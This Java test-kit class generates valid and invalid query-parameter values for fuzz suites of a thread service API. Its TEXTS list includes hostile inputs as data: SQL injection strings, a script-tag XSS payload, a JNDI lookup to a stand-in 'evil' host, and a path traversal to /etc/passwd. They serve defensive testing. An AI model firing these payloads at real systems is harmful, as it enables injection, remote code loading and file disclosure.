package dev.threadline.testkit;

import java.net.URLEncoder;
import java.nio.ByteBuffer;
import java.nio.charset.CharacterCodingException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Collection;
import java.util.HexFormat;
import java.util.List;

/**
 * Generated values of query parameters and text path variables for the fuzz suites of the thread service and
 * stats-streams, each marked valid or not by the rules docs/api.md documents for both ("Query parameters"): integers
 * whole, in decimal ASCII digits and in range; booleans exactly {@code true}/{@code false}; names exactly one of
 * theirs; instants ISO-8601 from 1970 to 9999; text 1 to its maximum characters, not blank, without control
 * characters; everything percent-encoded UTF-8.
 */
public final class QueryValues {

    /** A value as it goes into the URL (percent-encoded), whether the API must take it, and what it is. */
    public record Value(String encoded, boolean valid, String description) {

        @Override
        public String toString() {
            return description + " (" + (valid ? "valid" : "invalid") + "): " + FuzzRun.readable(encoded);
        }
    }

    /** Text that is valid anywhere text is: SQL, tsquery, JSON and HTML syntax, scripts, Unicode, reserved URL characters. */
    public static final List<String> TEXTS = List.of("parcel", "' OR '1'='1", "\"; DROP TABLE messages; --", "parcel & !refund | (x",
            "a:* <-> b", "\\", "'", "\"", "-", "or", "{\"$gt\": \"\"}", "<script>alert(1)</script>", "${jndi:ldap://evil/a}",
            "../../etc/passwd", "%", "+", "a&b=c", "#frag", "?", "日本語", "emoji \uD83D\uDE00", "\u202Eevil", "\uFEFFbom", "\uFFFD");
    /** Percent-encoded bytes that are no UTF-8: invalid, overlong, a surrogate, beyond U+10FFFF. */
    public static final List<String> NOT_UTF8 = List.of("%FF", "%C3%28", "%80", "%C0%AF", "%C0%80", "%E0%80%AF", "%ED%A0%80", "%F4%90%80%80");
    private static final List<String> NOT_INTEGERS = List.of("", " ", "abc", "1.5", "1e3", "+5", " 5", "5 ", "0x10", "٣", "１", "5a", "--1",
            "99999999999999999999", "-99999999999999999999", "NaN", "Infinity", "true");
    private static final List<String> NOT_INSTANTS = List.of("-999999999-01-01T00:00:00Z", "+1000000000-01-01T00:00:00Z",
            "0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "+10000-01-01T00:00:00Z", "yesterday", "", "2026-02-30T00:00:00Z",
            "2026-01-01", "2026-01-01T00:00:00", "1700000000", "now");
    /** The last second the API takes, all of it: "to 9999-12-31T23:59:59Z" is the end of year 9999. */
    private static final Instant LATEST = Instant.parse("9999-12-31T23:59:59Z");

    private QueryValues() {
    }

    public static Gen<Value> integer(long min, long max) {
        return Gen.oneOf(
                Gen.longs(min, max).map(n -> new Value(Long.toString(n), true, "in range")),
                Gen.longs(Math.max(min, 0), max).flatMap(n -> Gen.ints(1, 30).map(zeros -> new Value("0".repeat(zeros) + n, true,
                        "in range, with leading zeros"))),
                Gen.longs(Long.MIN_VALUE, min - 1).map(n -> new Value(Long.toString(n), false, "below range")),
                max == Long.MAX_VALUE ? Gen.just(new Value("9223372036854775808", false, "above range"))
                        : Gen.longs(max + 1, Long.MAX_VALUE).map(n -> new Value(Long.toString(n), false, "above range")),
                Gen.of(NOT_INTEGERS).map(text -> new Value(encode(text), false, "not an integer")),
                invalid());
    }

    public static Gen<Value> flag() {
        return Gen.oneOf(
                Gen.of("true", "false").map(text -> new Value(text, true, "a flag")),
                Gen.of("TRUE", "True", "1", "0", "yes", "", "t", " true").map(text -> new Value(encode(text), false, "not a flag")),
                invalid());
    }

    /**
     * Names of parameters a route does not have, which it ignores: generated ones of any script, and its own names
     * changed (case, a space, brackets), which are no longer its names.
     */
    public static Gen<String> unknownName(Collection<String> known) {
        return Gen.oneOf(
                Gen.of(List.copyOf(known)).flatMap(name -> Gen.of(name.toUpperCase(), name.substring(0, 1).toUpperCase() + name.substring(1),
                        name + " ", " " + name, name + "[]", name + "[0]", "_" + name, name + "\u00AD")),
                Gen.strings(Gen.oneOf(Gen.codePoints('a', 'z'), Gen.ASCII, Gen.NON_ASCII, Gen.SUPPLEMENTARY), 1, 12))
                .filter(name -> !known.contains(name) && !name.isBlank()).map(QueryValues::encode);
    }

    public static Gen<Value> name(List<String> names) {
        return Gen.oneOf(
                Gen.of(names).map(name -> new Value(encode(name), true, "a name")),
                Gen.of(names).flatMap(name -> Gen.of(name.toUpperCase(), " " + name, name + "x", ""))
                        .filter(text -> !names.contains(text)).map(text -> new Value(encode(text), false, "not a name")),
                invalid());
    }

    public static Gen<Value> text(int maxLength) {
        return Gen.oneOf(
                Gen.of(TEXTS).map(text -> new Value(encode(text), true, "text")),
                Gen.strings(Gen.codePoints('!', '~'), 1, 40).map(text -> new Value(encode(text), true, "ASCII text")),
                Gen.strings(Gen.oneOf(Gen.ASCII, Gen.NON_ASCII, Gen.SUPPLEMENTARY, Gen.INVISIBLE), 1, 40).map(text ->
                        new Value(encode(text), !text.isBlank() && text.length() <= maxLength, "generated text " + FuzzRun.readable(text))),
                Gen.just(new Value("t".repeat(maxLength), true, "text of the largest length")),
                Gen.just(new Value("t".repeat(maxLength + 1), false, "text a character too long")),
                Gen.of("", " ", "\t").map(text -> new Value(encode(text), false, "blank")),
                Gen.of("a\u0000b", "\u0001", "a\u007Fb", "a\u0085b", "line\nbreak").map(text ->
                        new Value(encode(text), false, "with a control character")),
                withControl().map(text -> new Value(encode(text), false, "generated text with a control character " + FuzzRun.readable(text))),
                invalid());
    }

    /** Instants from 1970 to 9999, whole seconds and with fractions of any precision, and what is not one. */
    public static Gen<Value> instant() {
        return Gen.oneOf(
                Gen.longs(0, LATEST.getEpochSecond()).map(s -> new Value(Instant.ofEpochSecond(s).toString(), true, "instant")),
                Gen.longs(0, LATEST.getEpochSecond()).flatMap(s -> Gen.oneOf(Gen.ints(0, 999).map(n -> n * 1_000_000),
                        Gen.ints(0, 999_999).map(n -> n * 1_000), Gen.ints(0, 999_999_999)).map(n -> Instant.ofEpochSecond(s, n)))
                        .map(instant -> new Value(instant.toString(), true, "instant with a fraction of a second")),
                Gen.of(NOT_INSTANTS).map(text -> new Value(encode(text), false, "not an instant in 1970..9999")),
                invalid());
    }

    /** What no parameter takes: bytes that are not UTF-8, known ones and generated ones. */
    public static Gen<Value> invalid() {
        return Gen.oneOf(
                Gen.of(NOT_UTF8).map(bytes -> new Value("a" + bytes + "b", false, "not UTF-8")),
                Gen.bytes(1, 6).filter(bytes -> !isUtf8(bytes)).map(bytes -> new Value("a" + encode(bytes) + "b", false,
                        "generated bytes that are not UTF-8")));
    }

    /** Generated text of letters of any script with a control character somewhere in it. */
    private static Gen<String> withControl() {
        Gen<String> letters = Gen.strings(Gen.oneOf(Gen.ASCII, Gen.NON_ASCII), 0, 20);
        return letters.flatMap(before -> Gen.CONTROL.flatMap(control -> letters.map(after -> before + control + after)));
    }

    private static boolean isUtf8(byte[] bytes) {
        try {
            StandardCharsets.UTF_8.newDecoder().decode(ByteBuffer.wrap(bytes));
            return true;
        } catch (CharacterCodingException e) {
            return false;
        }
    }

    /** Percent-encoding of the UTF-8 bytes of {@code text}, spaces as %20. */
    public static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The percent-encoding of arbitrary bytes. */
    public static String encode(byte[] bytes) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : bytes) {
            encoded.append('%').append(HexFormat.of().withUpperCase().toHexDigits(b));
        }
        return encoded.toString();
    }
}
